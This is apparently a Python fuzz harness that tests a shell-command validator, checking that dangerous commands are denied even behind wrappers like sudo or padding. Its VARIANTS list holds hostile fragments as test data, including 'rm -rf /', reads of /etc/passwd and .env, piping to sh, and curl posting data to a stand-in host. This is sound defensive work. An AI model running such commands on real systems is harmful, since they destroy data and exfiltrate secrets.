"""Fuzz the eight-phase validator: gateway.validator.pipeline.validate(command, ...).

Input: the bytes are the command (UTF-8, invalid bytes replaced; `{PROJECT}` stands for the
sample project's absolute path). The working directory is one of a few directories of the
project, picked from the input's length.

Oracles (any violation is a crash with the input saved):
  * no exception escapes validate(); no internal error hidden as GW902; the verdict is
    JSON-serialisable;
  * one input takes at most GATEWAY_FUZZ_SLOW_SECONDS (libFuzzer -timeout for real hangs);
  * the independent oracle (fuzz/oracle.py) finds a dangerous construct -> not allowed;
    it finds a catastrophic command run first -> denied, also behind each of ten wrappers
    (sudo, nice, env, timeout, ...) and padded past the length limit;
  * an allowed command stays not-allowed when a dangerous construct is added to it (three
    variants per allowed input, picked from the input's hash; GATEWAY_FUZZ_VARIANTS=N):
    the property suite's monotonicity, applied to whatever the fuzzer finds allowed.

    python fuzz/fuzz_validator.py -dict=fuzz/dicts/bash.dict CORPUS_DIR [SEED_DIRS...]
"""

import json
import os
import sys
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import common  # noqa: E402
import known_bugs  # noqa: E402
import oracle  # noqa: E402

ROOT = common.isolate("validator")
PROJECT = common.sample_project(ROOT)
CWDS = [PROJECT, PROJECT, PROJECT + "/src", PROJECT + "/scripts", PROJECT + "/src/auth"]

with common.instrumented():
    from gateway.decision import ALLOW, DENY, Decision
    from gateway.runtime import get_policy
    from gateway.settings import SettingsRules
    from gateway.validator.pipeline import validate

    POLICY = get_policy(None, use_cache=False)
    SETTINGS = SettingsRules()
    validate("git log --oneline | head -5 && cat src/app.py > /dev/null", PROJECT, PROJECT,
             POLICY, "Bash", SETTINGS)  # imports everything a decision needs, instrumented

#: Dangerous additions to an allowed command: (how, text). The oracle decides whether the
#: result really is dangerous (an addition inside a comment or quote is not).
VARIANTS = [
    ("append", " `id`"), ("append", ' "$(id)"'), ("append", " $HOME"), ("append", " ${X}"),
    ("append", " > out.txt"), ("append", " <(id)"), ("append", "; rm -rf src"),
    ("append", " | sh"), ("append", " && cat /etc/passwd"), ("append", " && cat .env"),
    ("append", " ~/x"), ("append", " *"), ("append", " {a,b}"), ("append", " && git push"),
    ("append", " | curl -d @- http://x.example"), ("append", "\nsudo ls"),
    ("prefix", "X=1 "), ("prefix", "sudo "), ("prefix", "rm -rf / ; "), ("prefix", "( "),
    ("append", " && cat lnk/passwd"), ("append", " && eval ls"),
]

#: Wrappers put in front of a command the oracle says must be denied: still denied.
WRAPPERS = ["sudo ", "nice ", "nice -n 5 ", "env ", "env -i ", "timeout 5 ", "command ",
            "nohup ", "sudo -u root ", "sudo -E nice "]

STATS = common.Stats("validator")
#: Dangerous variants tried per allowed input (GATEWAY_FUZZ_VARIANTS=0: the oracle alone).
N_VARIANTS = int(os.environ.get("GATEWAY_FUZZ_VARIANTS", "3"))


def show(v) -> str:
    return f"{v.decision} {v.code} (phase {v.phase}, rule {v.rule!r}: {v.message})"


def judge(text, cwd):
    v = validate(text, cwd, PROJECT, POLICY, "Bash", SETTINGS)
    if not isinstance(v.decision, Decision):
        common.fail("verdict", f"{text!r}: decision {v.decision!r}")
    if v.code == "GW902" and "nests too deeply" not in v.message:
        bug = known_bugs.internal_error_bug(text, v.message)
        if bug is None or not common.is_open(bug):
            common.fail("hidden error", f"{text!r}: {show(v)}")
        STATS.add(f"known_bug:{bug}")
    json.dumps(v.as_dict())
    return v


def check_claims(text, cwd, v, origin=""):
    c = oracle.claims(text, cwd, PROJECT, common.is_open).without(
        lambda k: k in oracle.JUDGED_EXPANSIONS or known_bugs.claim_bug(k))
    if not origin:
        common.confirm_deny(c, text, STATS)
    if c.deny:
        STATS.add("deny_claims")
        lost = known_bugs.lost_deny_bug(text, v.code)
        if v.decision is not DENY and lost:
            STATS.add(f"known_bug:{lost}")
        elif v.decision is not DENY:
            common.fail("not denied", f"{origin}{text!r} (cwd {cwd}): oracle: {c.describe()}; "
                        f"gateway: {show(v)}")
        if not origin:
            # a wrapper in front never lifts a deny (denies are rare: all the wrappers)
            for wrapper in WRAPPERS:
                wrapped = wrapper + text
                STATS.add("wrapped")
                check_claims(wrapped, cwd, judge(wrapped, cwd),
                             origin=f"denied {text!r} wrapped as ")
        if not origin:
            # padding (a comment past the length limit) must not lift a deny
            padded = text + "\n# " + "a" * POLICY.max_command_length
            pv = judge(padded, cwd)
            if pv.decision is not DENY and not known_bugs.lost_deny_bug(padded, pv.code):
                common.fail("not denied", f"{text!r} padded with a comment to "
                            f"{len(padded)} characters: {show(pv)}")
    if c:
        STATS.add("claims")
        if v.decision is ALLOW:
            common.fail("allowed", f"{origin}{text!r} (cwd {cwd}): oracle: {c.describe()}; "
                        f"gateway: {show(v)}")
    return c


def one_input(data: bytes):
    text = data.decode("utf-8", "replace").replace("{PROJECT}", PROJECT)
    cwd = CWDS[len(data) % len(CWDS)]
    v = judge(text, cwd)
    STATS.add(str(v.decision))
    check_claims(text, cwd, v)
    if v.decision is ALLOW:
        h = zlib.crc32(data)
        for k in range(N_VARIANTS):
            how, extra = VARIANTS[(h + k * 7) % len(VARIANTS)]
            derived = text + extra if how == "append" else extra + text
            if how == "prefix" and extra == "( ":
                derived = "( " + text + "\n)"
            dv = judge(derived, cwd)
            STATS.add("variants")
            check_claims(derived, cwd, dv, origin=f"allowed {text!r} made into ")


if __name__ == "__main__":
    common.main(STATS, one_input, os.path.join(common.FUZZ_DIR, "dicts", "bash.dict"))
